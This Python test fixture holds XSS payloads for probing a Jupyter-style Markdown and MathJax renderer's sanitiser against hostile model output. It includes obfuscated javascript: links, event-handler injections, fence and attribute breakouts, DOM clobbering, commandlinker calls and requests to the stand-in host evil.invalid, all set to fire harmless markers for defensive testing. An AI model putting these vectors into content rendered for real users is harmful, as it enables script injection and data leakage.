r"""What a hostile model might write: Markdown that tries to run code, load something or reach out.

Each script calls `nbllmFired(n)` or loads from the host `evil.invalid`; a test page defines the former and
watches requests for the latter. `MATH` holds formulas that a front end must not get to typeset.
"""

_X = "window.nbllmFired=1"
_HOST = "http://evil.invalid"

PAYLOADS: dict[str, str] = {
    "img onerror": f'<img src=x onerror="{_X}">',
    "script": f"<script>{_X}</script>",
    **{
        f"{tag} with a handler": f'<{tag} onclick="{_X}" onmouseover={_X} style="background:url({_HOST}/t)">x</{tag}>'  # noqa: E501
        f" <{tag}><img src=x onerror={_X}></{tag}> <{tag} <img src=x onerror={_X}>> <{tag}/onload={_X}>y"
        for tag in (
            *("br", "sub", "sup", "kbd", "details", "summary", "mark", "abbr"),
            *("b", "strong", "i", "em", "u", "s", "del", "ins", "code", "ul", "ol", "li"),
        )
    },
    "tags that cross": f"<sub>**a</sub>** [b<sup>](https://x.y)</sup> <kbd>`</kbd>` </sub><mark><mark><mark><mark>"  # noqa: E501
    f"<img src=x onerror={_X}></mark></sub>",
    "details around all": f"<details><summary><img src=x onerror={_X}></summary>\n\n<script>{_X}</script>\n\n"
    f"```html\n</details>\n```\n<details open><summary>a\n</summary><img src=x onerror={_X}></details>\n</details>",  # noqa: E501
    "details that never close": f"<details>\n<summary>\n<details>\n<img src=x onerror={_X}>\n</summary></details",  # noqa: E501
    "lists in a table": f"| a |\n|-|\n| <ul><li><img src=x onerror={_X}></li><li onclick={_X}>b</ul></li> |\n"
    + "| "
    + "<ul><li>" * 20
    + f"<script>{_X}</script>"
    + "</li></ul>" * 20
    + " | <ol></ul></ol><li> |",
    "bare address": f'https://x.y/"onmouseover="{_X} https://x.y/\'><img/src=x/onerror={_X}> https://a&quot;b javascript://x.y',
    "environment": rf"\begin{{align}}\href{{javascript:{_X}}}{{x}}\end{{align}} \begin{{cases}}<img src=x onerror={_X}>"  # noqa: E501
    r"\end{cases}",
    "right to left": f"שלום <img src=x onerror={_X}>\n\n> dir=rtl onclick={_X} שלום",
    "script in a block": f"text\n\n<div><script>{_X}</script></div>\n\ntext",
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{_X}</script>"></iframe>',
    "details ontoggle": f'<details open ontoggle="{_X}"><summary>x</summary></details>',
    "svg onload": f'<svg onload="{_X}"><a xlink:href="javascript:{_X}"><text y=20>x</text></a></svg>',
    "svg animate": f'<svg><animate onbegin="{_X}" attributeName=x dur=1s></svg>',
    "autofocus": f'<input autofocus onfocus="{_X}">',
    "style import": f"<style>@import url({_HOST}/a.css); body{{background:url({_HOST}/b.png)}}</style>",
    "style attribute": f'<p style="background:url({_HOST}/c.png)">x</p>',
    "link and meta": f'<link rel=stylesheet href="{_HOST}/d.css"><meta http-equiv=refresh '
    f'content="0;url={_HOST}">',
    "object and embed": f'<object data="{_HOST}/e"></object><embed src="{_HOST}/f">',
    "form": f'<form action="javascript:{_X}"><button>x</button></form>',
    "fence ended by a list": f"- ```\n  code\n<img src=x onerror={_X}>\n  ```",
    "fence ended by a quote": f"> ```\n> code\n\n<img src=x onerror={_X}>\n> ```",
    "fence in a list in a quote": f"> 1. ```html\n>    <b>\n> <img src=x onerror={_X}>\n>    ```",
    "longer fence": f"````\n```\n<img src=x onerror={_X}>\n````\n<img src=x onerror={_X}>",
    "fence info": f'```"><img/src=x/onerror={_X}>\ncode\n```',
    "fence info class": f'```x" onmouseover="{_X}\ncode\n```',
    "tilde info": f"~~~ `'\"><svg/onload={_X}>\ncode\n~~~",
    "unclosed fence": f"```html\n<img src=x onerror={_X}></code></pre><img src=x onerror={_X}>",
    "javascript link": f"[a](javascript:{_X})",
    "javascript link in capitals": f"[a](JaVaScRiPt:{_X})",
    "javascript link with entities": f"[a](&#106;avascript&colon;{_X}) [b](javascript&#x3A;{_X})",
    "javascript link with white space": f"[a](<java\tscript:{_X}>) [b](<&#1;javascript:{_X}>) [c](< "
    f"javascript:{_X}>)",
    "javascript reference link": f"[a][r]\n\n[r]: javascript:{_X}",
    "javascript autolink": f"<javascript:{_X}>",
    "vbscript and file": "[a](vbscript:msgbox) [b](file:///etc/passwd)",
    "data link": f"[a](data:text/html,<script>{_X}</script>) [b](data:text/html;base64,PHNjcmlwdD4=)",
    "scheme-relative and relative links": "[a](//evil.invalid/x) [b](/lab?reset) [c](../x) [d](?x) [e](#x)",
    "attribute break in a link": f'[a](http://x.invalid/"onmouseover="{_X}) [b](http://x.invalid "t\\" '
    f'onmouseover=\\"{_X}")',
    "attribute break in an autolink": f"<http://x.invalid/\"onmouseover='{_X}'>",
    "image": f"![a]({_HOST}/g.png) ![b](http://127.0.0.1:9/h.png)",
    "image with a break": f'![" onerror="{_X}]({_HOST}/i.png" onerror="{_X}) ![x]({_HOST}/i.png "\\" '
    f'onerror=\\"{_X}")',
    "image by reference": f"![a][r]\n\n[r]: {_HOST}/j.png",
    "image with a script": f"![a](javascript:{_X}) ![b](data:image/svg+xml,<svg onload={_X}>)",
    "image in a link": f"[![a]({_HOST}/k.png)](javascript:{_X}) [![a]({_HOST}/k.png)]({_HOST})",
    "links in a link label": f"[<http://x.invalid>](javascript:{_X}) [<javascript:{_X}>](http://x.invalid) "
    f"<img src=x onerror={_X}>",
    "html in a link label": f"[<img src=x onerror={_X}>](http://x.invalid) [<b>](javascript:{_X})",
    "html in a table": f"| <img src=x onerror={_X}> | b |\n|---|--:|\n| <script>{_X}</script> | "
    f"`<svg/onload={_X}>` |",
    "html in a heading": f"# <img src=x onerror={_X}>\n\n<img src=x onerror={_X}>\n===",
    "entities": f"&lt;img src=x onerror={_X}&gt; &#60;script&#62;{_X}&#60;/script&#62;",
    "comment and cdata": f"<!-- --><img src=x onerror={_X}> <![CDATA[<img src=x onerror={_X}>]]> <?x <img "
    f"src=x onerror={_X}>?>",
    "end of our own tags": f"</div></details></code></pre></style></script><img src=x onerror={_X}>",
    "code span": f"`<img src=x onerror={_X}>` ``` <script>{_X}</script> ```",
    "indented code": f"    <img src=x onerror={_X}>\n\n    <script>{_X}</script>",
    "unicode": f"\uff1cimg src=x onerror={_X}\uff1e \u2028<img src=x onerror={_X}> "
    f"\x00<scr\x00ipt>{_X}</script> \ud800<b>",
    "bidi": f"\u202e<img src=x onerror={_X}>\u202c \u2066x\u2069 \x1b[31mred "
    f"\x1b]8;;http://evil.invalid\x07x",
    "jupyter command": '<a data-commandlinker-command="terminal:create-new" href="#">x</a> <button '
    'data-commandlinker-command="x">y</button>',
    "clobbering": "<form id=document name=body></form> <a id=jupyter-config-data>{}</a>",
    "nested": f"> - > 1. **[<img src=x onerror={_X}>](javascript:{_X})** ~~![x](javascript:{_X})~~",
    "end of our formula": f"$a</span><img src=x onerror={_X}>$ and $$</div><script>{_X}</script>$$",
}

MATH: dict[str, str] = {
    "href": rf"\href{{javascript:{_X}}}{{x}}",
    "href out": rf"\href{{{_HOST}}}{{x}}",
    "style": rf"\style{{background:url({_HOST}/m.png)}}{{x}}",
    "bbox": rf"\bbox[background:url({_HOST}/n.png)]{{x}}",
    "class and id": r"\class{jp-Cell}{x} + \cssId{main}{x}",
    "require": r"\require{html} x",
    "unicode": r"\unicode{x41} + \unicode[font-family:x]{65}",
    "mmlToken": rf'\mmlToken{{mi}}[href="javascript:{_X}"]{{x}}',
    "definition": r"\def\alpha{\beta} \let\sum=\prod \newcommand{\x}{y} \renewcommand{\pi}{3} "
    r"\DeclareMathOperator{\sin}{cos}",
    "definition of what is harmless": r"\def\cancel{x} y",
    "argument that is harmless": r"\href\cancel{x}{y} \style\newline x",
    "made name": rf"\csname href\endcsname{{javascript:{_X}}}{{x}}",
    "enclose": rf'\enclose{{box}}[style="background:url({_HOST}/o.png)"]{{x}} \cancel[style="x"]{{y}}',
    "data": r"\data{foo=bar}{x} \htmlData{a=b}{x} \htmlClass{a}{x} \htmlStyle{a}{x}",
    "picture": rf"\includegraphics{{{_HOST}/p.png}}",
    "tip": r"\texttip{x}{y} \mathtip{x}{y} \toggle{x}{y}\endtoggle",
    "in text": rf"\text{{\href{{javascript:{_X}}}{{x}}}}",
    "label": r"x \label{eq:x} \ref{eq:x} \eqref{x}",
    "html element": rf"<tex-html><img src=x onerror={_X}></tex-html>",
    "tags": rf"a<img src=x onerror={_X}>b",
}
PAYLOADS |= {
    f"formula: {name}": f"Text ${source}$ and\n\n$$\n{source}\n$$\n\nend" for name, source in MATH.items()
}
